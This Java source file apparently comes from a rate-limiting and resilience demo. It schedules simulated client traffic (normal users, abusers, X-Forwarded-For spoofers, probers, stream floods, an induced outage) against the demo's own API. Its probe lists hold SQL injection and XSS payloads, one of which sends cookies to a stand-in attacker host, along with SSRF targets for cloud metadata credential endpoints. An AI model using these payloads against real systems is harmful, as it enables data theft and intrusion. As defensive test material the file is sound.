package dev.bulwark.examples.scenario;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;

/**
 * What every client kind sends at each tick of 100 ms: a fixed, deterministic schedule, so that the
 * number of requests per kind depends only on the scenario's length, never on timing. Rates are
 * chosen against the demo's limits (per client IP: search 30/min, chat 20/min, documents 5/min,
 * login 5 per 15 min, other routes 100/min; 1000/min globally, of which the plan uses at most 863,
 * leaving room for the dashboard's 60 polls a minute):
 *
 * <ul>
 *   <li>{@link ClientKind#ORDINARY}: three users, one request a second each, staggered by 300 ms:
 *       a login first, then a 12-step cycle of search (4 per cycle, 20/min), chat (3, 15/min),
 *       fetch, stream (100 or 300 ms) and, every other cycle, a document (2.5/min): never limited;
 *   <li>{@link ClientKind#ABUSIVE}: a search every 3 ticks (200/min, nearly seven times its limit);
 *   <li>{@link ClientKind#SPOOFER}: a search every 3 ticks (200/min), each with a new
 *       {@code X-Forwarded-For} from the documentation ranges 198.51.100.0/24 and 203.0.113.0/24;
 *   <li>{@link ClientKind#PROBER}: a probe every 5 ticks (120/min): three SQL injection or XSS
 *       searches, then one SSRF target for {@code /api/fetch};
 *   <li>{@link ClientKind#STREAM_FLOOD}: 12 {@code /api/stream?ms=2000} at once every 5 s, from
 *       0.5 s on (per-client limit: 5 in flight);
 *   <li>{@link ClientKind#OUTAGE}: {@code failureRate 1.0} at 30% of the run, {@code 0.0} at 55%
 *       (sent as the operator, from 127.0.0.1);
 *       a chat every 500 ms for the first 5 s of the outage, from 100 ms in (10 chats: the first two fail through
 *       their retries and open the breaker, the rest are rejected fast), and one every 8 s from 2 s
 *       on (at most 17.5/min in all).
 * </ul>
 *
 * <p>With the demo's 30 s open duration, the breaker probes and closes again only in runs that
 * last well past 30% of the run plus 30 s (60 s runs do); shorter runs show it open until the end.
 *
 * <p>Not thread-safe: {@link #at} must be called for ticks 0, 1, 2... in order (the spoofed
 * addresses come from the seeded random).
 */
final class TrafficPlan {

  /** Ticks per second: one tick is 100 ms. */
  static final int TICKS_PER_SECOND = 10;

  /** Requests of each stream-flood burst. */
  static final int FLOOD_BURST = 12;

  /** How long the outage kind chats every 500 ms once the outage starts: 5 s. */
  static final int OUTAGE_CHAT_TICKS = 5 * TICKS_PER_SECOND;

  private static final List<String> TOPICS =
      List.of("rate limiting", "circuit breaker", "retry backoff", "security headers", "ssrf", "injection");

  private static final List<String> INJECTIONS =
      List.of(
          "' OR '1'='1' --",
          "<script>alert(document.cookie)</script>",
          "1 UNION SELECT username, password FROM users",
          "\"><img src=x onerror=alert(1)>",
          "admin'; DROP TABLE users; --",
          "<svg/onload=fetch('//evil.example/'+document.cookie)>");

  private static final List<String> SSRF_TARGETS =
      List.of(
          "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
          "http://127.0.0.1:8080/admin/upstream",
          "http://0x7f000001/",
          "http://[::ffff:10.0.0.1]/internal",
          "http://metadata.google.internal/computeMetadata/v1/");

  private final int totalTicks;
  private final Random random;

  TrafficPlan(int totalTicks, long seed) {
    if (totalTicks < 1) {
      throw new IllegalArgumentException("totalTicks must be >= 1 but was " + totalTicks);
    }
    this.totalTicks = totalTicks;
    this.random = new Random(seed);
  }

  /** The tick at which the outage starts: 30% of the run. */
  int outageStart() {
    return Math.round(totalTicks * 0.30f);
  }

  /** The tick at which the outage ends: 55% of the run, and after its start. */
  int outageEnd() {
    return Math.max(outageStart() + 1, Math.round(totalTicks * 0.55f));
  }

  /** The requests of one tick, in the order they are sent. */
  List<PlannedRequest> at(int tick) {
    List<PlannedRequest> out = new ArrayList<>();
    for (int user = 0; user < ClientKind.ORDINARY.addresses().size(); user++) {
      int offset = 3 * user;
      if (tick >= offset && (tick - offset) % TICKS_PER_SECOND == 0) {
        out.add(ordinary(user, (tick - offset) / TICKS_PER_SECOND));
      }
    }
    if (tick % 3 == 0) {
      out.add(search(ClientKind.ABUSIVE, "rate limit " + (tick / 3) % 100));
    }
    if (tick % 3 == 1) {
      String spoofed = (random.nextBoolean() ? "198.51.100." : "203.0.113.") + (1 + random.nextInt(254));
      PlannedRequest s = search(ClientKind.SPOOFER, "circuit breaker");
      out.add(new PlannedRequest(s.kind(), 0, s.method(), s.path(), s.query(),
          Map.of("X-Forwarded-For", spoofed), null, null));
    }
    if (tick % 5 == 2) {
      out.add(probe(tick / 5));
    }
    if (tick % (5 * TICKS_PER_SECOND) == 5) {
      for (int i = 0; i < FLOOD_BURST; i++) {
        out.add(PlannedRequest.get(ClientKind.STREAM_FLOOD, 0, "/api/stream", Map.of("ms", "2000")));
      }
    }
    if (tick == outageStart()) {
      out.add(admin("{\"failureRate\":1.0}"));
    }
    if (tick == outageEnd()) {
      out.add(admin("{\"failureRate\":0.0}"));
    }
    boolean duringOutage = tick >= outageStart() && tick < outageStart() + OUTAGE_CHAT_TICKS;
    if ((duringOutage && (tick - outageStart()) % 5 == 1)
        || tick % (8 * TICKS_PER_SECOND) == 2 * TICKS_PER_SECOND) {
      out.add(chat(ClientKind.OUTAGE, 0, "Is the upstream back yet? (" + tick + ")"));
    }
    return out;
  }

  private static PlannedRequest ordinary(int user, int step) {
    ClientKind k = ClientKind.ORDINARY;
    if (step == 0) {
      return PlannedRequest.post(k, user, "/api/auth/login", "application/json",
          "{\"user\":\"user" + user + "\",\"password\":\"correct horse battery staple\"}");
    }
    String topic = TOPICS.get((step + user) % TOPICS.size());
    switch (step % 12) {
      case 0:
      case 3:
      case 6:
      case 10:
        return search(k, user, topic);
      case 1:
      case 5:
      case 9:
        return chat(k, user, "user" + user + " asks: explain " + topic + " in one sentence");
      case 4:
        return PlannedRequest.get(k, user, "/api/stream", Map.of("ms", "300"));
      case 11:
        return PlannedRequest.get(k, user, "/api/stream", Map.of("ms", "100"));
      case 7:
        if (step % 24 == 7) {
          return PlannedRequest.post(k, user, "/api/documents", "text/plain",
              "notes of user" + user + " at step " + step + ": " + topic);
        }
        return fetch(k, user, "https://example.org/articles/" + step);
      default: // 2, 8
        return fetch(k, user, "https://example.com/feeds/user" + user);
    }
  }

  private static PlannedRequest probe(int n) {
    if (n % 4 == 3) {
      return fetch(ClientKind.PROBER, 0, SSRF_TARGETS.get((n / 4) % SSRF_TARGETS.size()));
    }
    return search(ClientKind.PROBER, INJECTIONS.get(n % INJECTIONS.size()));
  }

  private static PlannedRequest search(ClientKind kind, String q) {
    return search(kind, 0, q);
  }

  private static PlannedRequest search(ClientKind kind, int client, String q) {
    return PlannedRequest.get(kind, client, "/api/search", Map.of("q", q));
  }

  private static PlannedRequest fetch(ClientKind kind, int client, String url) {
    return PlannedRequest.get(kind, client, "/api/fetch", Map.of("url", url));
  }

  private static PlannedRequest chat(ClientKind kind, int client, String prompt) {
    String escaped = prompt.replace("\\", "\\\\").replace("\"", "\\\"");
    return PlannedRequest.post(kind, client, "/api/chat", "application/json", "{\"prompt\":\"" + escaped + "\"}");
  }

  private static PlannedRequest admin(String body) {
    return PlannedRequest.post(ClientKind.OUTAGE, PlannedRequest.OPERATOR, "/admin/upstream", "application/json", body);
  }
}
